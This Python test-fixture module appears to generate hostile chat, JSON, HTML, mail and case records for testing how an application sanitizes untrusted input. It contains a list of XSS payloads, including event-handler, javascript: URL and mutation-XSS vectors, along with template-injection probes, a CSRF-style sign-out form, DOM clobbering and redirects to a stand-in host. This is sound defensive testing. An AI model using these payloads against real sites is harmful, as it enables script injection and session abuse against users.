"""Records that carry a payload in every place where a stranger can write, as a dump for `load_json`; and
payloads of our own. Each tries one of: run a script, reach another server, move the reader elsewhere."""

import base64
import json
import re
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from html import escape
from pathlib import Path

CORPUS_PATH = Path(__file__).resolve().parents[3] / "shared/corpora/html/dompurify-payloads.json"
MARK_PATTERN = re.compile(r"[a-z]+\d{4}z")
FOREIGN_URL = "http://elsewhere.example"
HOSTILE_CUSTOMER_ID, HOSTILE_SERVICE_ID, CHAT_RECORD_ID, JSON_RECORD_ID = (
    "HOSTILECUSTOMER",
    "HOSTILESERVICE",
    "HOSTILECHAT",
    "HOSTILEJSON",
)
TEXT_ATTRIBUTES = [
    "subject",
    "media_type",
    "type",
    "parent_id",
    "thread_id",
    "start_date",
    "outcome",
    "phone_number",
]
TEXT_ATTRIBUTES += ["from", "to", "reply_to", "external_id", "x_unknown"]
IN_CASES = ("subject", "agent", "way", "kind", "key", "value")
CASES_PER_CUSTOMER = 40  # cases of one customer: a page of each list
NON_XML_PATTERN = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd]")

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script></style></title></textarea></pre><script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1) id=go autofocus>go</a>",
    "<a href='java&#10;script:alert(1)'>go</a>",
    "javascript:alert(1)",
    'https://elsewhere.example/"onmouseover=alert(1)//',
    f"<iframe src={FOREIGN_URL}/frame></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN_URL}/refresh'>",
    f"<base href={FOREIGN_URL}/><img src=base.png>",
    f"<link rel=stylesheet href={FOREIGN_URL}/css><link rel=preconnect href={FOREIGN_URL}>",
    f"<link rel=dns-prefetch href={FOREIGN_URL}><link rel=prefetch href={FOREIGN_URL}/prefetch>",
    f"<style>@import '{FOREIGN_URL}/import';body{{background:url({FOREIGN_URL}/style)}}</style>",
    f"<p style='background-image:url({FOREIGN_URL}/inline);position:fixed;inset:0'>over</p>",
    f"<img src={FOREIGN_URL}/pixel><img srcset='{FOREIGN_URL}/set 1x'><table background={FOREIGN_URL}/table>",
    f"<video poster={FOREIGN_URL}/poster src={FOREIGN_URL}/film autoplay></video>",
    f"<audio src={FOREIGN_URL}/sound autoplay><source src={FOREIGN_URL}/source>",
    f"<object data={FOREIGN_URL}/object></object><embed src={FOREIGN_URL}/embed>",
    f"<form action={FOREIGN_URL}/form><button autofocus>send</button></form>",
    "<form id=search action=/sign-out method=post><img src=/sign-out><input name=q>",
    "<img src=/customers/HOSTILECUSTOMER><img src=//elsewhere.example/relative>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "<a href=/sign-out id=x data-swap=x data-swap-from=/sign-out data-row=x data-copy=x>swap</a>",
    "<img name=body><img id=content><form name=querySelector></form>",
    "\u202egpj.exe\u202c \u0000 \u2028 \ufeff <b>&lt;&amp;</b>",
    f"<a href='{FOREIGN_URL}/\"><script>alert(1)</script>' title=\"'><script>alert(1)\">www.bank.example</a>",
    f"<a href='{FOREIGN_URL}/&quot; onfocus=alert(1) autofocus x=&quot;'>https://bank.example</a>",
    "<a href='mailto:&quot;&gt;&lt;img src=x onerror=alert(1)&gt;@elsewhere.example'>a@bank.example</a>",
    "<a href='https://\"}*{background:url(//elsewhere.example)}/' data-host=\"');alert(1)\">bank.example</a>",
    f"?next={FOREIGN_URL}/next#//elsewhere.example",
)


def load_corpus() -> list[str]:
    """The payloads of others; none where the corpora are not."""
    if not CORPUS_PATH.is_file():
        return []
    return [each["payload"] for each in json.loads(CORPUS_PATH.read_text(encoding="utf-8"))]


def format_mark(place: str, number: int) -> str:
    """What stands before this payload in this place, so that one can see that it came there."""
    return f"{place}{number:04}z"


def format_html_id(number: int) -> str:
    """The ID of the record whose contents are this payload, as text, as HTML and as bytes."""
    return f"HOSTILEH{number:08}"


def format_mail_id(number: int) -> str:
    """The ID of the record whose content is a mail with this payload in its headers, HTML and file names."""
    return f"HOSTILEM{number:08}"


def format_case_id(number: int, side: str = "a") -> str:
    """The ID of one of the two records of a case: a thread whose every text has this payload."""
    return f"HOSTILEC{number:08}{side}"


def format_case_customer_id(number: int) -> str:
    """Whose case it is."""
    return f"HOSTILECASES{number // CASES_PER_CUSTOMER:03}"


def format_case_thread_id(number: int, payload: str) -> str:
    """The ID of its thread, no longer than a filter takes it."""
    return f"{format_mark('thread', number)}{payload[:150].strip()}"


def write_hostile_dump(folder: Path, payloads: Sequence[str]) -> int:
    """Writes the records, and their contents beside them; gives the number of records."""
    records = [
        _write_hostile_record(
            folder, CHAT_RECORD_ID, payloads, "text/xml", {"structured_text": _build_chat_content(payloads)}
        ),
        _write_hostile_record(
            folder,
            JSON_RECORD_ID,
            payloads,
            "application/json",
            {"structured_text": _build_json_content(payloads)},
        ),
    ]
    for number, payload in enumerate(payloads):
        data = payload.encode("utf-8", "replace")
        contents = {"plain_text": data, "structured_text": data, "binary_content": data}
        records.append(
            _write_hostile_record(folder, format_html_id(number), [payload], "text/html", contents)
        )
        records.append(
            _write_hostile_record(
                folder,
                format_mail_id(number),
                [payload],
                "message/rfc822",
                {"structured_text": _build_mail_content(payload)},
            )
        )
        records += [_build_case(number, payload, side) for side in "ab"]
    (folder / "hostile.ndjson").write_text("\n".join(map(json.dumps, records)), encoding="utf-8")
    return len(records)


def _write_hostile_record(
    folder: Path, interaction_id: str, payloads: Sequence[str], media_type: str, contents: dict[str, bytes]
) -> dict[str, object]:
    """A record with a payload in each attribute that is a text, and all of them as attached data."""
    _write_contents(folder / interaction_id, contents)
    payload = payloads[0]
    known = {"FirstName": payload, "RTargetAgentSelected": payload, "Deep": {payload: [payload]}}
    return dict.fromkeys(TEXT_ATTRIBUTES, payload) | {
        "interaction_id": interaction_id,
        "customer_id": HOSTILE_CUSTOMER_ID,
        "service_id": HOSTILE_SERVICE_ID,
        "entity_type": 2,
        "status": 3,
        "structured_text_mime": media_type,
        "udata": known | {payload: payload for payload in payloads},
    }


def _build_case(number: int, payload: str, side: str) -> dict[str, object]:
    """Of a minute of its own, so that it stands in a journey, and on each side with a value of its own."""
    start = datetime(2026, 3, 2, tzinfo=UTC) + timedelta(hours=2 * number, minutes=side == "b")
    own = {place: f"{format_mark(place, number)}{payload}" for place in IN_CASES}
    udata = {"All": "1", own["key"][:150]: f"{own['value']}{side}", "RTargetAgentSelected": own["agent"]}
    return {
        "interaction_id": format_case_id(number, side),
        "customer_id": format_case_customer_id(number),
        "thread_id": format_case_thread_id(number, payload),
        "media_type": "chat",
        "entity_type": 2,
        "type": own["way"],
        "sub_type": f".{own['kind']}",  # no words, which would be set apart
        "status": 3,
        "subject": f"{own['subject']}{side}",
        "start_date": start.isoformat(),
        "udata": udata,
    }


def _write_contents(folder: Path, contents: dict[str, bytes]) -> None:
    folder.mkdir()
    for kind, data in contents.items():
        (folder / kind).write_bytes(data)


def _build_json_content(payloads: Sequence[str]) -> bytes:
    return json.dumps({payload: [payload] for payload in payloads}).encode()


def _build_chat_content(payloads: Sequence[str]) -> bytes:
    """Each payload as a nick, an ID, a message, a notice and a reason."""
    lines = []
    for number, payload in enumerate(payloads):
        who, text = (
            f'userId="{number}" timeShift="{number}"',
            escape(NON_XML_PATTERN.sub(" ", payload), quote=True),
        )
        lines.append(
            f'<newParty {who} visibility="ALL" eventId="{4 * number}">'
            f'<userInfo personId="{text}" userNick="{text}" userType="CLIENT"/></newParty>'
            f'<message {who} visibility="ALL" eventId="{4 * number + 1}"><msgText>{text}</msgText></message>'
            f'<notice {who} visibility="ALL" eventId="{4 * number + 2}">'
            f'<noticeText noticeType="PUSH_URL">{text}</noticeText></notice>'
            f'<partyLeft {who} visibility="ALL" eventId="{4 * number + 3}" askerId="{text}">'
            f"<reason>{text}</reason></partyLeft>"
        )
    head = '<chatTranscript startAt="2026-03-02T09:33:10Z" sessionId="1">'
    return f"{head}{''.join(lines)}</chatTranscript>".encode("utf-8", "replace")


def _build_mail_content(payload: str) -> bytes:
    line = " ".join(payload.replace("\x00", " ").splitlines())
    quoted = line.replace("\\", "\\\\").replace('"', '\\"')
    body = base64.encodebytes(payload.encode("utf-8", "replace")).decode()
    return (
        f'From: "{quoted}" <a@example.com>\r\nTo: {line}\r\nSubject: {line}\r\n'
        f"Date: {line}\r\nX-Own: {line}\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{body}\r\n"
        f'--b\r\nContent-Type: text/html; name="{quoted}"\r\nContent-Transfer-Encoding: base64\r\n'
        f'Content-Disposition: attachment; filename="{quoted}"\r\n\r\n{body}\r\n'
        f'--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline; filename="{quoted}.svg"\r\n\r\n'
        f"{line}\r\n--b--\r\n"
    ).encode("utf-8", "replace")
